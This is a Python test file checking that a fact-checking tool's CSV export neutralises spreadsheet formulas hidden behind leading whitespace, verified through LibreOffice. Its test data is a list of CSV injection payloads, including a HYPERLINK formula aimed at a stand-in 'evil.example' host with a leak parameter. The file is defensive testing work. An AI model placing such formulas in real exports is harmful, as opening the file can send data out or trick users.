"""CSV formula neutralising after leading whitespace (issue 16, item 4).

LibreOffice with "trim spaces" and "evaluate formulas" reads `` =HYPERLINK(…)`` as a formula,
so OWASP's rule applies after leading whitespace: such a cell gets a leading apostrophe too.
One test reads the bytes written; another, where LibreOffice is installed, converts the CSV
headless and counts the formula cells it sees (none), after checking it does see formulas in
the same cells written without neutralising.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from factcheck_gui.exporters import render_review
from factcheck_gui.exporters.csvfile import safe_cell
from factcheck_gui.store.records import Review, VerdictRecord

LEADING = [
    ' =HYPERLINK("http://evil.example/?leak=1","click")',
    " =1+1",  # unquoted in the file: LibreOffice's "trim spaces" makes it a formula
    "   =2*3",
    "\t=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "   +2+3",
    " -4+5",
    "  @SUM(1,2)",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space: invisible, and trimmed by some programs
    "\ufeff=1+1",
    " ＝1+1",
]
FORMULA = re.compile(r"^[=+\-@＝＋－＠\t\r]")


def hostile(hand: Review) -> Review:
    """The hand review with leading-whitespace formulas as its title, notes and reviewer names."""
    verdicts = {
        cid: VerdictRecord(cid, None, LEADING[2 * i], LEADING[2 * i + 1], v.decided_at, v.version)
        for i, (cid, v) in enumerate(hand.verdicts.items())
    }
    return replace(hand, verdicts=verdicts, summary=replace(hand.summary, title=LEADING[0]))


@pytest.mark.parametrize("cell", LEADING)
def test_a_formula_after_leading_whitespace_gets_an_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["1+1", "Putin said", "", "   ", "'quoted", "\n\nplain text", " x=1"])
def test_plain_text_with_leading_whitespace_is_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_the_written_bytes_hold_no_formula_after_whitespace(hand: Review) -> None:
    text = render_review(hostile(hand), "csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    for cell in cells:
        stripped = cell.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff")
        assert not (FORMULA.match(stripped) and not cell.startswith("'")), repr(cell)
    assert sum(1 for c in cells if c.startswith("' =HYPERLINK(")) >= 2  # the title and a note
    assert "' =1+1" in cells and "'   =2*3" in cells


def _raw_csv(cells: list[str]) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for c in cells:
        w.writerow(["x", c])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def _libreoffice() -> str | None:
    return shutil.which("libreoffice") or shutil.which("soffice")


def formula_cells(csv_path: Path, work: Path) -> int:
    """Formula cells LibreOffice sees in ``csv_path`` (comma, UTF-8, trim spaces, evaluate formulas)."""
    exe = _libreoffice()
    assert exe
    # Tokens: separator, quote, charset (76 UTF-8), first line, column formats, language,
    # quoted as text, detect special numbers, -, -, trim spaces, -, evaluate formulas.
    options = "44,34,76,1,,1033,false,true,false,false,true,-1,true"
    profile = work / "lo-profile"
    out = subprocess.run(
        [
            exe,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "ods",
            "--outdir",
            str(work),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=240,
    )
    ods = work / (csv_path.stem + ".ods")
    assert ods.exists(), out.stdout + out.stderr
    with zipfile.ZipFile(ods) as z:
        content = z.read("content.xml").decode("utf-8")
    ods.unlink()
    return content.count("table:formula=")


@pytest.mark.slow
@pytest.mark.skipif(_libreoffice() is None, reason="LibreOffice (libreoffice/soffice) is not on PATH")
def test_libreoffice_evaluates_no_cell_of_the_export(hand: Review, tmp_path: Path) -> None:
    raw = tmp_path / "raw.csv"
    raw.write_bytes(_raw_csv(LEADING))
    # The check can see formulas: the same cells, not neutralised, are formulas to LibreOffice
    # (those the csv module writes unquoted: " =1+1" and "   =2*3").
    assert formula_cells(raw, tmp_path) >= 2

    ours = tmp_path / "export.csv"
    ours.write_bytes(_raw_csv([safe_cell(c) for c in LEADING]))
    assert formula_cells(ours, tmp_path) == 0

    review = tmp_path / "review.csv"
    review.write_bytes(render_review(hostile(hand), "csv"))
    assert formula_cells(review, tmp_path) == 0
